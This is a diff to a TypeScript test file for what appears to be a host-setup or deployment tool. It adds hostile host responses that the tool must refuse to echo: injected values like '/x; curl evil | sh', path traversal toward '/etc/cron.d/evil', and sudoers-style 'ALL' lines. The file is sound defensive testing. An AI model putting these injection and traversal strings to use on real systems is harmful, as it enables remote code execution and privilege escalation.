@@ -42,7 +42,9 @@ const LIES: readonly Readonly<Record<string, unknown>>[] = [
     ],
   },
   { missingRights: ['systemctl stop shop.service\nALL'], sudo: 'password' },
+  { rootPath: '/srv/evil' },
   { rootPath: '/opt/shop /bin/sh' },
+  { missingShared: ['../../etc/cron.d/evil'] },
   { rootPath: `/tmp\n${EVIL}` },
   { rootPath: '/', deadMan: [] },
   { sudoVersion: `Sudo version 1.9.13p3\n${EVIL}` },
@@ -80,7 +82,7 @@ describe.each(LIES)('a host that says %j', (lie) => {
       if (/^cd /.test(line)) expect(line).toMatch(PLACING);
       else expect([SERVICE, TIMER, root]).toContain(line);
     }
-    expect(said).not.toMatch(/^\s*.*install .*curl/m);
+    expect(said).not.toMatch(/evil|ALL=\(ALL\)/);
   });
 });
 
@@ -258,6 +260,7 @@ test.each([
   { uid: 0 },
   { rootPath: '/x; curl evil | sh' },
   { missingTools: ['x; curl evil | sh'] },
+  { missingShared: ['../../../etc/cron.d/evil'] },
 ] as const)(
   'what a run that is refused tells an admin has nothing of %j',
   (lie: Partial<HostFacts>) => {
@@ -266,7 +269,7 @@ test.each([
       app: appOf({ deadMan: 'required' }),
       diskBytes: 0,
     });
-    const hints = found.map(({ hint }) => hint).join('\n');
+    const hints = found.map(({ message, hint }) => `${message}\n${hint}`).join('\n');
     expect(hints).not.toContain('evil');
     expect(hints.includes('NOPASSWD')).toBe(!('user' in lie) && !('uid' in lie));
   },
